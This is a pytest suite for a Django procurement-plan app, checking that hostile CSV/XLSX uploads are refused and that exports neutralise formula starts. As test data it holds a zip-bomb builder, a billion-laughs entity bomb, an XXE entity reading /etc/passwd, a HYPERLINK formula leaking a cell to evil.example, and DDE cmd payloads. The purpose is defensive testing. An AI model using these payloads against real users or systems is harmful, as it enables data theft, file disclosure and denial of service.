"""Hostile and broken uploads (issue 8, point 2): every one is refused with a clear message and imports
nothing; the limits are checked before the rows are parsed; exports never hand a spreadsheet a formula.

The new messages are asserted in English (translation.override("en")): their Swedish comes later.
"""

import csv
import io
import re
import zipfile

import pytest
from django.core.management import call_command, execute_from_command_line
from django.core.management.base import CommandError
from django.utils import translation
from openpyxl import Workbook, load_workbook

from accounts.models import Role
from plans.exchange import checking, imports, reading
from plans.exchange.exports import export_plan_file
from plans.exchange.imports import plan_import
from plans.exchange.reading import ImportRefused, read_table
from plans.models import Plan, Procurement, Rubric
from plans.register.disclosure import CENTRE
from tests.factories import DepartmentFactory, PlanFactory, ProcurementFactory, UserFactory, member
from tests.plans.exchange.test_imports import SV_HEADER, csv_bytes, row, xlsx_bytes

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00\x01\x00\x00\x00" + b"\x00" * 40
BINARIES = {"PNG": PNG, "PDF": PDF, "ELF": ELF}

SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.fixture
def plan(falun_plan, serv, omv):
    return falun_plan


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def refused(plan, content, filename) -> str:
    """The message of the refusal; and nothing was written."""
    before = Procurement.objects.count()
    with pytest.raises(ImportRefused) as refusal:
        plan_import(plan=plan, filename=filename, content=content)
    assert Procurement.objects.count() == before
    message = str(refusal.value)
    assert message and "Traceback" not in message
    return message


def good_xlsx() -> bytes:
    return xlsx_bytes([row()])


def replace_member(content: bytes, name: str, data: bytes | None = None, *, extra=()) -> bytes:
    """The workbook with one member replaced (or removed when data is None) and extra members added."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
            elif data is not None:
                target.writestr(name, data)
        for extra_name, extra_data in extra:
            target.writestr(extra_name, extra_data)
    return buffer.getvalue()


def padded_sheet(megabytes: int) -> bytes:
    """A workbook whose first sheet is valid XML padded with megabytes of spaces: it deflates ~1000:1."""
    buffer = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(good_xlsx()))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != SHEET:
                target.writestr(info.filename, source.read(info.filename))
        with target.open(SHEET, "w") as sheet:
            sheet.write(f"<worksheet {MAIN}><sheetData>".encode())
            spaces = b" " * (1 << 20)
            for _ in range(megabytes):
                sheet.write(spaces)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def zip_bomb():
    """150 MB of sheet in 150 kB: over the 100 MB bound on what a workbook may unpack to."""
    return padded_sheet(150)


@pytest.fixture
def openpyxl_must_not_open(monkeypatch):
    def fail(*args, **kwargs):
        raise AssertionError("openpyxl was asked to open a file that should have been refused before")

    monkeypatch.setattr("openpyxl.load_workbook", fail)


def entity_sheet(doctype: str, reference: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n{doctype}\n<worksheet {MAIN}><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>Ref</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{reference}</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


# lol9 expands to 10^9 "lol"s: three gigabytes from a few hundred bytes.
BILLION_LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


# --- Files that are not what they claim -----------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(BINARIES))
def test_a_binary_renamed_to_xlsx_is_refused_and_named(kind, plan):
    message = refused(plan, BINARIES[kind], "plan.xlsx")
    assert "not a readable Excel workbook" in message and kind in message


@pytest.mark.parametrize("kind", sorted(BINARIES))
def test_a_binary_renamed_to_csv_is_refused_and_named(kind, plan):
    message = refused(plan, BINARIES[kind], "plan.csv")
    assert kind in message


def test_a_workbook_renamed_to_csv_is_refused_and_named(plan):
    assert "Excel workbook (.xlsx)" in refused(plan, good_xlsx(), "plan.csv")


@pytest.mark.parametrize(("filename", "message"), [("plan.csv", "empty"), ("plan.xlsx", "not a readable")])
def test_an_empty_file_is_refused(filename, message, plan):
    assert message in refused(plan, b"", filename)


def test_a_zip_that_is_not_a_workbook_is_refused(plan):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert "zip archive but not an Excel workbook" in refused(plan, buffer.getvalue(), "plan.xlsx")
    # A workbook with its workbook part removed is no workbook either.
    broken = replace_member(good_xlsx(), "xl/workbook.xml")
    assert "zip archive but not an Excel workbook" in refused(plan, broken, "plan.xlsx")


def test_a_truncated_workbook_is_refused(plan):
    content = good_xlsx()
    assert "not a readable Excel workbook" in refused(plan, content[: len(content) // 2], "plan.xlsx")


def test_a_workbook_with_broken_xml_is_refused(plan):
    content = replace_member(good_xlsx(), SHEET, b"<worksheet><sheetData><row><c>")
    assert "not a readable Excel workbook" in refused(plan, content, "plan.xlsx")


# --- Zip bombs: refused from the zip directory, before openpyxl opens anything ----------------------


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(zip_bomb, plan, openpyxl_must_not_open):
    assert len(zip_bomb) < 1_000_000
    message = refused(plan, zip_bomb, "plan.xlsx")
    assert "would unpack to 150 MB" in message and "zip bomb" in message


def test_a_member_compressed_a_thousand_to_one_is_refused(plan, openpyxl_must_not_open):
    content = padded_sheet(20)  # 20 MB: under the size bound, but no real sheet compresses like that
    message = refused(plan, content, "plan.xlsx")
    assert "compressed" in message and SHEET in message and "zip bomb" in message


def test_a_workbook_with_thousands_of_parts_is_refused(plan, openpyxl_must_not_open):
    parts = [(f"xl/media/part{n}.bin", b"x") for n in range(reading.XLSX_MAX_MEMBERS)]
    content = replace_member(good_xlsx(), "", extra=parts)
    message = refused(plan, content, "plan.xlsx")
    assert "parts" in message and "zip bomb" in message


def test_a_real_workbook_is_far_from_the_bomb_bounds(plan):
    rows = [row(Ref=f"R-{n:05d}", Benämning="Personbilar " * 3) for n in range(3000)]
    content = xlsx_bytes(rows)
    reading.check_workbook_zip(content)
    members = zipfile.ZipFile(io.BytesIO(content)).infolist()
    assert max(member.file_size / max(member.compress_size, 1) for member in members) < 40


# --- XML entity bombs and external entities: defusedxml ---------------------------------------------


def test_openpyxl_parses_through_defusedxml():
    import openpyxl

    assert openpyxl.DEFUSEDXML, "install defusedxml (a runtime dependency) so openpyxl expands no entities"


@pytest.mark.parametrize("member", [SHEET, "xl/workbook.xml"])
def test_a_billion_laughs_workbook_is_refused(member, plan):
    if member == SHEET:
        data = entity_sheet(BILLION_LAUGHS, "&lol9;")
    else:
        workbook = zipfile.ZipFile(io.BytesIO(good_xlsx())).read(member).decode()
        data = workbook.replace("<workbook", BILLION_LAUGHS + "<workbook", 1).encode()
    message = refused(plan, replace_member(good_xlsx(), member, data), "plan.xlsx")
    assert "XML entity declarations" in message


def test_an_external_entity_workbook_is_refused_and_reads_no_file(plan):
    content = replace_member(good_xlsx(), SHEET, entity_sheet(XXE, "&xxe;"))
    message = refused(plan, content, "plan.xlsx")
    assert "XML entity declarations" in message and "root:" not in message


# --- Broken text -------------------------------------------------------------------------------------


def test_a_csv_with_a_nul_byte_is_refused(plan):
    content = csv_bytes([row(), row(Ref="2027-002", Benämning="Bil\x00ar")])
    assert "NUL" in refused(plan, content, "plan.csv")


@pytest.mark.parametrize(
    ("encoding", "message"), [("latin-1", "not in UTF-8"), ("cp1252", "not in UTF-8"), ("utf-16", "NUL")]
)
def test_a_csv_in_another_encoding_is_refused(encoding, message, plan):
    text = csv_bytes([row(Benämning="Färdtjänst")]).decode("utf-8-sig")
    assert message in refused(plan, text.encode(encoding), "plan.csv")


def test_a_csv_broken_in_the_middle_is_refused(plan):
    content = csv_bytes([row()]) + b"\r\n2027-002;Bil\xc3\x28ar"
    assert "not in UTF-8" in refused(plan, content, "plan.csv")


# --- Formulas ----------------------------------------------------------------------------------------


def formula_errors(plan, content, filename):
    before = Procurement.objects.count()
    result = plan_import(plan=plan, filename=filename, content=content)
    assert not result.ok and not result.applied
    assert Procurement.objects.count() == before
    return [str(error) for error in result.errors]


@pytest.mark.parametrize(
    ("column", "formula"),
    [
        ("Benämning", '=HYPERLINK("http://evil.example/?leak="&A1, "Klicka")'),
        ("Uppskattat värde SEK", "=1000*2"),
        ("Antal möjliga leverantörer", "=1+2"),
        ("Ansvarig upphandlare", "=A1"),
    ],
)
def test_a_formula_in_an_xlsx_is_a_bad_row_and_nothing_is_imported(column, formula, plan):
    cells = row(Ref="2027-002", **{column: formula})
    content = xlsx_bytes([row(), cells])
    assert formula_errors(plan, content, "plan.xlsx") == [f"row 3: {column}: formulas are not accepted"]


def test_a_formula_in_a_column_the_import_ignores_is_refused_too(plan):
    content = xlsx_bytes([[*row(), "=SUM(F2:F9)"]], header=[*SV_HEADER, "Kommentar"])
    assert formula_errors(plan, content, "plan.xlsx") == ["row 2: Kommentar: formulas are not accepted"]


def test_a_formula_in_the_header_is_refused(plan):
    content = xlsx_bytes([[*row(), ""]], header=[*SV_HEADER, '=CONCAT("A","B")'])
    assert formula_errors(plan, content, "plan.xlsx") == ["row 1: Column 22: formulas are not accepted"]


def test_text_that_merely_starts_with_equals_in_an_xlsx_is_text(plan):
    """How the export stores =… titles: a text cell, which no spreadsheet runs; it imports as text."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(SV_HEADER)
    sheet.append(row(Benämning="=Bilar och bussar"))
    sheet["B2"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = plan_import(plan=plan, filename="plan.xlsx", content=buffer.getvalue())
    assert result.ok, result.errors
    assert Procurement.objects.get(plan=plan).title == "=Bilar och bussar"


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-HYPERLINK(A1)",
        "@SUM(A1:A9)",
        "+(1+1)",
    ],
)
def test_a_formula_in_a_csv_is_a_bad_row_and_nothing_is_imported(formula, plan):
    content = csv_bytes([row(), row(Ref="2027-002", Benämning=formula)])
    assert formula_errors(plan, content, "plan.csv") == ["row 3: Benämning: formulas are not accepted"]


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("'=1+1", "=1+1"),  # protected by the export's apostrophe
        ("'+cmd", "+cmd"),
        ("'@SUM(A1)", "@SUM(A1)"),
        ("+46 70 123 45 67", "+46 70 123 45 67"),  # a phone number is no formula
        ("- del 2", "- del 2"),
        ("Bilar = bussar", "Bilar = bussar"),
    ],
)
def test_protected_or_harmless_csv_text_imports(cell, stored, plan):
    result = plan_import(plan=plan, filename="plan.csv", content=csv_bytes([row(Benämning=cell)]))
    assert result.ok, result.errors
    assert Procurement.objects.get(plan=plan).title == stored


def test_a_negative_number_is_a_bad_value_not_a_formula(plan):
    errors = formula_errors(plan, csv_bytes([row(**{"Uppskattat värde SEK": "-5"})]), "plan.csv")
    assert len(errors) == 1 and "formula" not in errors[0] and "negative" in errors[0]


# A text formula, ="03220000", is how the Swedish CSV keeps a CPV code's leading zero (issue 17).
TEXT_FORMULAS = {"Ref": '="001"', "CPV": '="03220000"', "Benämning": '="2027 bilar"'}
TEXT_FORMULA_VALUES = {"ref": "001", "cpv": "03220000", "title": "2027 bilar"}


@pytest.mark.parametrize(("fmt", "cell_type"), [("csv", None), ("xlsx", "f"), ("xlsx", "s")])
def test_a_text_formula_imports_as_the_text_it_shows(fmt, cell_type, plan):
    if fmt == "csv":
        content = csv_bytes([row(**TEXT_FORMULAS)])
    else:
        # Calc keeps the CSV's ="…" as a formula cell (f), or as text (s) when it does not evaluate formulas.
        workbook = Workbook()
        sheet = workbook.active
        sheet.append(SV_HEADER)
        sheet.append(row(**TEXT_FORMULAS))
        cells = [cell for cell in sheet[2] if str(cell.value).startswith("=")]
        for cell in cells:
            cell.data_type = cell_type
        assert len(cells) == 3
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()
    result = plan_import(plan=plan, filename=f"plan.{fmt}", content=content)
    assert result.ok, [str(error) for error in result.errors]
    stored = Procurement.objects.get(plan=plan)
    assert {name: getattr(stored, name) for name in TEXT_FORMULA_VALUES} == TEXT_FORMULA_VALUES


@pytest.mark.parametrize(
    "formula",
    [
        '="Bil"&"ar"',  # two texts joined: a formula that computes
        '="x"&HYPERLINK("http://evil.example")',
        '="=1+1"',  # text that would itself be a formula is refused as one
        '="+cmd|x"',
        '="@SUM(A1)"',
    ],
)
@pytest.mark.parametrize("filename", ["plan.csv", "plan.xlsx"])
def test_a_formula_dressed_as_a_text_formula_is_refused(formula, filename, plan):
    cells = row(Ref="2027-002", Benämning=formula)
    content = csv_bytes([row(), cells]) if filename == "plan.csv" else xlsx_bytes([row(), cells])
    assert formula_errors(plan, content, filename) == ["row 3: Benämning: formulas are not accepted"]


# --- The limits, checked before the rows are parsed --------------------------------------------------


@pytest.fixture
def readers_must_not_run(monkeypatch):
    def fail(*args, **kwargs):
        raise AssertionError("the file was opened although it is over the size limit")

    monkeypatch.setattr(reading, "_read_csv", fail)
    monkeypatch.setattr(reading, "_read_xlsx", fail)
    monkeypatch.setattr(reading, "check_workbook_zip", fail)
    monkeypatch.setattr(zipfile, "ZipFile", fail)


@pytest.mark.parametrize("filename", ["plan.csv", "plan.xlsx"])
def test_a_file_one_byte_over_10_mb_is_refused_without_being_opened(filename, plan, readers_must_not_run):
    from django.conf import settings

    assert settings.IMPORT_MAX_BYTES == 10 * 1024 * 1024
    content = csv_bytes([row()])
    padding = settings.IMPORT_MAX_BYTES + 1 - len(content)
    content += b"\r\n" * (padding // 2) + b" " * (padding % 2)
    assert len(content) == settings.IMPORT_MAX_BYTES + 1
    assert "the limit is 10 MB" in refused(plan, content, filename)


def test_a_file_of_exactly_10_mb_is_read(plan, settings):
    content = csv_bytes([row()])
    content += b"\r\n" * ((settings.IMPORT_MAX_BYTES - len(content)) // 2)
    content += b" " * (settings.IMPORT_MAX_BYTES - len(content))
    assert len(content) == settings.IMPORT_MAX_BYTES
    result = plan_import(plan=plan, filename="plan.csv", content=content)
    assert result.ok and result.created == ["2027-001"]


@pytest.fixture
def rows_must_not_be_checked(monkeypatch):
    def fail(*args, **kwargs):
        raise AssertionError("rows were checked although the file is over the row limit")

    monkeypatch.setattr(imports, "check_rows", fail)
    monkeypatch.setattr(checking, "clean_cell", fail)


def many_rows_csv(count: int) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(SV_HEADER)
    template = row()
    for number in range(count):
        writer.writerow([f"R-{number:05d}", *template[1:]])
    return buffer.getvalue().encode()


def many_rows_xlsx(count: int) -> bytes:
    """Two columns are enough: rows are counted before the header is even looked at."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(SV_HEADER[:2])
    for number in range(count):
        sheet.append([f"R-{number:05d}", "Personbilar"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(("filename", "make"), [("plan.csv", many_rows_csv), ("plan.xlsx", many_rows_xlsx)])
def test_20_001_rows_are_refused_before_any_row_is_checked(filename, make, plan, rows_must_not_be_checked):
    from django.conf import settings

    assert settings.IMPORT_MAX_ROWS == 20_000
    assert "more than 20000 rows" in refused(plan, make(20_001), filename)


def test_20_000_rows_are_within_the_limit(plan):
    header, rows = read_table("plan.csv", many_rows_csv(20_000))
    assert len(rows) == 20_000 and header == SV_HEADER


# --- The import_plan command fails on every kind of hostile file ------------------------------------


def hostile_files():
    return {
        "png.xlsx": PNG,
        "elf.csv": ELF,
        "bomb.xlsx": padded_sheet(20),
        "laughs.xlsx": replace_member(good_xlsx(), SHEET, entity_sheet(BILLION_LAUGHS, "&lol9;")),
        "xxe.xlsx": replace_member(good_xlsx(), SHEET, entity_sheet(XXE, "&xxe;")),
        "nul.csv": csv_bytes([row(Benämning="Bil\x00ar")]),
        "latin1.csv": csv_bytes([row(Benämning="Färdtjänst")]).decode("utf-8-sig").encode("latin-1"),
        "formula.csv": csv_bytes([row(Benämning="=1+1")]),
        "formula.xlsx": xlsx_bytes([row(Benämning="=1+1")]),
        "empty.csv": b"",
    }


@pytest.mark.parametrize("name", sorted(hostile_files()))
def test_the_command_refuses_every_hostile_file(name, plan, tmp_path, capsys):
    path = tmp_path / name
    path.write_bytes(hostile_files()[name])
    with pytest.raises(CommandError) as failure:
        call_command("import_plan", str(path), "--municipality", "falun", "--year", "2027", "--lang", "en")
    assert str(failure.value)
    assert not Procurement.objects.exists()


@pytest.mark.parametrize("name", ["bomb.xlsx", "formula.csv", "laughs.xlsx"])
def test_the_command_exits_non_zero(name, plan, tmp_path, capsys, monkeypatch):
    from django.db import connections

    monkeypatch.setattr(connections, "close_all", lambda: None)  # keep the test's transaction open
    path = tmp_path / name
    path.write_bytes(hostile_files()[name])
    argv = [
        "manage.py",
        "import_plan",
        str(path),
        "--municipality",
        "falun",
        "--year",
        "2027",
        "--lang",
        "en",
    ]
    with pytest.raises(SystemExit) as exit_status:
        execute_from_command_line(argv)
    assert exit_status.value.code != 0
    assert "CommandError" in capsys.readouterr().err
    assert not Procurement.objects.exists()


# --- Exports neutralise =, +, - and @ ----------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.fixture
def dangerous_plan(falun_plan, centre):
    officer = member(UserFactory(username="evil", email="=1+1@example.se"), Role.OFFICER, centre=centre)
    department = DepartmentFactory(municipality=falun_plan.municipality, code="SERV")
    for number, text in enumerate(DANGEROUS, start=1):
        ProcurementFactory(
            plan=falun_plan,
            ref=f"2027-{number:03d}",
            title=text,
            description=text,
            department=department,
            officer=officer,
        )
    return falun_plan


def export(plan, fmt, language="sv"):
    content, _type, _extension = export_plan_file(
        plan=plan,
        procurements=plan.procurements.all(),
        fmt=fmt,
        language=language,
        disclosure=CENTRE,
        now=None,
    )
    return content


TEXT_OF_DIGITS = re.compile(r'="[0-9][0-9-]*"')


@pytest.mark.parametrize("language", ["sv", "en"])
def test_the_csv_export_neutralises_formula_starts(language, dangerous_plan):
    text = export(dangerous_plan, "csv", language).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text), delimiter="," if language == "en" else ";"))
    header = table[0]
    title, officer = header.index("title" if language == "en" else "Benämning"), 20
    for line, expected in zip(table[1:], DANGEROUS, strict=True):
        assert line[title] == "'" + expected
        assert line[officer] == "'=1+1@example.se"
    for line in table[1:]:
        # A text formula of digits (="2027-001", the Swedish ref and CPV) is text, no formula that runs.
        cells = [cell for cell in line if not (language == "sv" and TEXT_OF_DIGITS.fullmatch(cell))]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_xlsx_export_stores_formula_starts_as_text(dangerous_plan):
    content = export(dangerous_plan, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert [cell.value for cell in cells if cell.column == 2] == DANGEROUS
    assert {cell.value for cell in cells if cell.column == 21} == {"=1+1@example.se"}
    assert all(cell.data_type != "f" for cell in cells)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_the_export_with_descriptions_imports_back_with_the_text_intact(dangerous_plan):
    """The import removes the export's apostrophe again; text cells in the XLSX are text, not formulas."""
    from plans.exchange import tabular
    from plans.exchange.columns import OPTIONAL_COLUMNS

    for fmt in ("csv", "xlsx"):
        header, rows = tabular.export_rows(
            dangerous_plan.procurements.select_related("department", "officer").order_by("ref"),
            language="sv",
            disclosure=CENTRE,
        )
        procurements = list(dangerous_plan.procurements.order_by("ref"))
        header = [*header, OPTIONAL_COLUMNS[0].sv]
        rows = [[*cells, p.description] for cells, p in zip(rows, procurements, strict=True)]
        if fmt == "csv":
            content = tabular.write_csv(header, rows, language="sv")
        else:
            content = tabular.write_xlsx(
                header,
                rows,
                language="sv",
                plan=dangerous_plan,
                rubric=Rubric.objects.get(plan=dangerous_plan),
            )
        target = PlanFactory(
            municipality=dangerous_plan.municipality, year=2027 + (10 if fmt == "csv" else 11)
        )
        result = plan_import(plan=target, filename=f"plan.{fmt}", content=content)
        assert result.ok, result.errors
        copied = list(
            target.procurements.order_by("ref").values_list("title", "description", "officer__email")
        )
        assert copied == [(text, text, "=1+1@example.se") for text in DANGEROUS]
    assert Plan.objects.count() == 3
